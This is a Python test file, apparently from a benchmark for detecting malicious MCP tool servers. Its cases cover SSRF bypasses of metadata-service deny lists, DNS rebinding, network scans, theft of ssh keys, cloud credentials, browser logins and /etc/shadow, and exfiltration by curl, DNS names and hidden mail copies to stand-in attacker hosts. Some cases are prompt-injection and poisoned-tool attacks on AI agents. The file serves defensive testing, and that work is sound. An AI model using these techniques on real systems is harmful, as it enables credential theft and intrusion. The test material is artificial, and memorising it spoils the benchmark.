# SPDX-License-Identifier: Apache-2.0
"""Attacks on what lies within reach: private networks, metadata services, secrets, and the way out."""

import ns
from kit import ATTACKER, CREDENTIALS, IMDS, KEYS, LAN, SERVICE, call, case, http, imds, node, py, py1, raw, sink, web

HERE = "/home/agent"
# Answers as ssh-agent does: no keys.
AGENT = """
import os, socket
os.makedirs("/tmp/ssh-Xq3aWv"); s = socket.socket(socket.AF_UNIX); s.bind("/tmp/ssh-Xq3aWv/agent.7"); s.listen()
os.chmod("/tmp/ssh-Xq3aWv", 0o777); os.chmod("/tmp/ssh-Xq3aWv/agent.7", 0o777)
while True:
    c, _ = s.accept(); c.recv(100); c.sendall(bytes([0, 0, 0, 5, 12, 0, 0, 0, 0]))
"""


# --- where it connects ------------------------------------------------------------------------------------

@case("ssrf-redirect", ["net.private"], http("py", "fetch.py", 8102), stubs=[
    web("203.0.113.10", doc=[302, {"location": f"http://{LAN}/admin"}, ""]), web(LAN, admin=[200, {}, "router admin"])], steps=[
    ["list", "s"], call("convert_to_markdown", uri="http://203.0.113.10/doc")])
def _(w):
    """BlueRock, "MCP fURI": a public page that redirects into the private network."""
    return w.text(1) == "router admin"

@case("ssrf-rebinding", ["net.private"], node("preview.mjs"), agent="node", resolver={"names": {"page.example": ["203.0.113.10", LAN]}}, stubs=[
    web("203.0.113.10"), web(LAN, status=[200, {}, "internal status"])], steps=[["list", "s"], call("preview", url="http://page.example/status")])
def _(w):
    """DNS rebinding against a server that checks the name first (Oligo, 0.0.0.0 Day; GitHub advisories of the MCP SDKs)."""
    return w.text(1) == "internal status"


@case("ssrf-name", ["net.private"], node("preview.mjs"), agent="raw", resolver={"names": {"cdn.example": ["172.16.9.9"]}}, stubs=[
    web("172.16.9.9", x=[200, {}, "inside"])], steps=[["list", "s"], call("preview", url="http://cdn.example/x")])
def _(w):
    """A public name that has a private address (OWASP, SSRF prevention): 172.16/12, which the deny list forgot."""
    return w.text(1) == "inside"


@case("imds-direct", ["net.metadata"], py("fetch.py"), stubs=[imds()], steps=[
    ["list", "s"], call("convert_to_markdown", uri=f"http://{IMDS}{CREDENTIALS}")])
def _(w):
    """BlueRock, "MCP fURI": MarkItDown is sent to the metadata service by name."""
    return w.text(1) == KEYS


for form, host in {"decimal": "2852039166", "octal": "0251.0376.0251.0376"}.items():
    @case(f"imds-{form}", ["net.metadata"], raw("fetchraw.py"), agent="raw", stubs=[imds()], steps=[
        ["list", "s"], call("read_page", url=f"http://{host}{CREDENTIALS}")])
    def _(w):
        """OWASP, SSRF prevention: other forms of 169.254.169.254 than the deny list has."""
        return w.text(1) == KEYS


@case("imds-mapped", ["net.metadata"], node("preview.mjs"), agent="node", stubs=[imds()], steps=[
    ["list", "s"], call("preview", url=f"http://[::ffff:{IMDS}]{CREDENTIALS}")])
def _(w):
    """IPv4-mapped IPv6 around a deny list (CVE-2025-8020-like, private-ip; OWASP, SSRF prevention)."""
    return w.text(1) == KEYS


@case("imds-v6", ["net.metadata"], py("icon.py"), stubs=[imds("fd00:ec2::254")],
      steps=[["list", "s"], call("convert", amount=10, to="USD")])
def _(w):
    """Wiz on fake servers that steal cloud credentials; T1552.005: at each call, unnamed, fd00:ec2::254."""
    return any("security-credentials" in a for a in w.asked("fd00:ec2::254"))


@case("imds-hosts", ["net.metadata"], node("preview.mjs"), agent="raw", hosts={"metadata.google.internal": IMDS, "wiki.corp.example": IMDS},
      stubs=[imds()], steps=[["list", "s"], call("preview", url="http://wiki.corp.example" + CREDENTIALS)])
def _(w):
    """A name of /etc/hosts that is the metadata service (GCP and Alibaba forms of the SSRF lists)."""
    return w.text(1) == KEYS


@case("imds-redirect", ["net.metadata"], py("fetch.py"), agent="raw", stubs=[
    imds(), web("203.0.113.10", a=[302, {"location": f"http://{IMDS}{CREDENTIALS}"}, ""])], steps=[
    ["list", "s"], call("convert_to_markdown", uri="http://203.0.113.10/a")])
def _(w):
    """A redirect of a public page to the metadata service (vulnerable-mcp-servers-lab)."""
    return w.text(1) == KEYS


@case("scan-network", ["net.fanout"], py("scan.py"), agent="raw", local=["10.13.37.0/24"], stubs=[
    web("10.13.37.5"), {"kind": "tcp", "addr": "10.13.37.9", "port": 22}], steps=[["list", "s"], call("check_connection")])
def _(w):
    """MITRE ATT&CK T1046: 240 connections to 40 hosts in a connectivity check."""
    return "10.13.37.9:22" in [s["at"] for s in w.root.world("tcp")] and w.text(1) == "online"


@case("scan-ports", ["net.fanout"], node("sweep.mjs"), agent="node", local=["203.0.113.30"], stubs=[web("203.0.113.30")], steps=[
    ["list", "s"], call("is_up", host="203.0.113.30")])
def _(w):
    """MITRE ATT&CK T1046: 400 ports of one host."""
    return w.text(1) == "up: 80"


ALLOWED = "api.postmarkapp.com"


@case("egress-postmark", ["net.egress"], node("postmark.mjs"), agent="node", resolver={"names": {ALLOWED: [SERVICE], "giftshop.club": [ATTACKER]}},
      steps=[
    ["list", "s"], call("sendEmail", to="bob@example.com", subject="Contract", textBody="attached")], rules="egress")
def _(w):
    """Koi Security, "The Postmark Backdoor": a copy of every mail to someone else, where only the mail service is allowed."""
    return any("phan@giftshop.club" in b for b in w.got(ATTACKER)) and len(w.got(SERVICE)) == 1


@case("egress-port", ["net.egress"], py1("telemetry.py"), agent="raw", stubs=[sink()],
      steps=[["list", "s"], call("prettify", code="secret = 1")],
      rules="egress")
def _(w):
    """MITRE ATT&CK T1571: the argument goes to an address and port that nobody allowed."""
    return w.got(f"{ATTACKER}:4444", "tcp") == ["c2VjcmV0ID0gMQ=="]


# --- secrets ----------------------------------------------------------------------------------------------

@case("secret-harvest", ["secret.read"], py("summary.py"),
      steps=[["list", "s"], call("summarize_project", folder=f"{HERE}/projects/app")])
def _(w):
    """s1ngularity and Shai-Hulud (2025), T1552.001: ssh, aws, gcloud, kube, docker, netrc and npm in a project summary."""
    return "health" in w.text(1)


@case("secret-browser", ["secret.read"], node("browser.mjs"), agent="node",
      steps=[["list", "s"], call("search_bookmarks", query="bank")])
def _(w):
    """MITRE ATT&CK T1555.003: logins and cookies of two browsers."""
    return w.root.read("/tmp/.k4") == ns.blob("key4", 600)


for i, store in enumerate(["pass", "keyring", "gnupg", "history"]):
    @case(f"secret-{store}", ["secret.read"], raw("stores.py"), agent="raw", steps=[["list", "s"], call("tip", day=i)])
    def _(w):
        """MITRE ATT&CK T1555, T1552.003: a password store, a keyring, GnuPG's keys, a shell's history."""
        return "Drink water" in w.text(1)


@case("secret-dotenv", ["secret.read"], node("lint.mjs"), agent="raw",
      steps=[["list", "s"], call("check_style", file=f"{HERE}/projects/app/main.py")])
def _(w):
    """GitGuardian on MCP and secrets, T1552.001: the .env files of all projects."""
    return "fine" in w.text(1)


@case("secret-shadow", ["secret.read", "effect.unnamed"], py1("shadowfile.py"), agent="raw", user="root",
      steps=[["list", "s"], call("count_users")])
def _(w):
    """MITRE ATT&CK T1003.008: /etc/shadow, opened relative to a descriptor."""
    return w.text(1) == "2"


@case("secret-in-arguments", ["secret.in_args"], py("notes.py"), steps=[
    ["list", "s"], call("add_note", title="aws", text=f"key {ns.AWS_ID} secret {ns.AWS_SECRET}"),
    call("add_note", title="ssh", text=ns.SSH_KEY)])
def _(w):
    """OWASP MCP01 and MCP10, context over-sharing: an agent was talked into putting keys into arguments."""
    return w.text(2) == "2 notes"


@case("secret-in-answer", ["secret.in_result"], py("debuginfo.py", env={"GITHUB_TOKEN": ns.GITHUB}), agent="node",
      steps=[["list", "s"], call("debug_info")])
def _(w):
    """Damn Vulnerable MCP Server, challenge 7, and OWASP MCP01: an answer that carries keys."""
    return ns.AWS_SECRET in w.text(1) and ns.GITHUB in w.text(1)


# --- out ----------------------------------------------------------------------------------------------------

@case("exfil-one-call", ["exfil.read_then_send", "secret.read"], http("py", "backup.py", 8103), agent="node",
      steps=[["list", "s"], call("check_config")])
def _(w):
    """MITRE ATT&CK T1041: reads the ssh key and posts it, in one call."""
    return ns.SSH_KEY in w.got(ATTACKER)


@case("exfil-two-calls", ["exfil.read_then_send", "secret.read"], node("twostep.mjs"), agent="node", steps=[
    ["list", "s"], call("timezone"), ["sleep", 0.3], call("sync")])
def _(w):
    """MITRE ATT&CK T1074: read in one call, sent in the next."""
    return len(w.got(ATTACKER)) == 1 and len(w.got(ATTACKER)[0]) > 100


@case("exfil-curl", ["exfil.read_then_send", "secret.read"], py1("curlout.py"), agent="raw",
      steps=[["list", "s"], call("check_updates")])
def _(w):
    """MITRE ATT&CK T1048.003: a child's curl --data-binary @~/.kube/config."""
    return any("admin" in b for b in w.got(ATTACKER))


@case("exfil-dns", ["exfil.read_then_send", "secret.read"], raw("dnsout.py"), agent="raw", resolver={"any": ATTACKER}, steps=[
    ["list", "s"], call("strength", text="correct horse")])
def _(w):
    """CVE-2025-55284 and T1071.004: the key as names below a domain."""
    return len([s for s in w.root.world("dns") if s["name"].endswith(".x.exfil.example")]) == 16


@case("exfil-toxic-flow", ["exfil.read_then_send", "secret.in_result", "secret.in_args", "secret.read"], node("issues.mjs"), agent="node",
      steps=[
    ["list", "s"], call("list_issues", repo="pacman"), call("get_file", repo="app", path=".env"),
    call("create_pull_request", repo="pacman", body="About the author: {{2}}")])
def _(w):
    """Invariant Labs, "GitHub MCP Exploited", a toxic agent flow: a public issue makes the agent publish a private file."""
    return any("sk_live_" in b for b in w.got(SERVICE))


@case("exfil-answer-large", ["data.large_export"], node("customers.mjs"), agent="node",
      steps=[["list", "s"], call("search_customers", query="*")])
def _(w):
    """General Analysis on Supabase MCP: whole tables through one answer (8 MB)."""
    return len(w.text(1)) > 7_000_000


@case("exfil-upload-large", ["data.large_export"], py("upload.py"), agent="raw", stubs=[sink()],
      steps=[["list", "s"], call("table_stats", table="users")])
def _(w):
    """MITRE ATT&CK T1041: 48 MB sent to a host that the call does not name."""
    return [s["n"] for s in w.root.world("tcp")] == [48 << 20]


@case("exfil-after-poison-later", ["exfil.after_poisoned", "tool.poisoned"], raw("ansi.py"), py("mail.py"), agent="py", steps=[
    ["list", "s"], ["list", "t"], call("lint", path="/tmp/a.py"), call("send_email", "t", to="x@collect.example", subject="requirements", body="as asked")])
def _(w):
    """Trail of Bits, ANSI codes, then a tool of another server that can send: the poisoned session goes on."""
    return any("collect.example" in b for b in w.got(SERVICE))


@case("secret-renamed", ["secret.read"], raw("hardlink.py"), agent="raw", steps=[["list", "s"], call("make_thumbnail", name="a")])
def _(w):
    """MITRE ATT&CK T1552.001, T1036: a key by a hard link, a cloud's file by a rename."""
    return w.text(1).endswith(f" {len(w.read('/home/agent/.ssh/id_rsa')) + len(w.read('/home/agent/.aws/credentials'))} bytes")


@case("secret-agent", ["secret.read.agent"], node("sshagent.mjs"), agent="node", beside=["python3", "-c", AGENT, "agent"],
      steps=[["list", "s"], call("is_up")])
def _(w):
    """MITRE ATT&CK T1563.001: the ssh agent's socket."""
    return w.text(1) == "up 9"


@case("exfil-names", ["data.large_export.names"], raw("dnstext.py"), agent="raw", resolver={"any": ATTACKER}, steps=[
    ["list", "s"], call("summarize", text="The offer for the harbour stands at 4.2 million until Friday. " * 8)])
def _(w):
    """MITRE ATT&CK T1048.003: the text of a call as names, with no file read."""
    return len([s for s in w.root.world("dns") if s["name"].endswith(".x.exfil.example")]) > 12
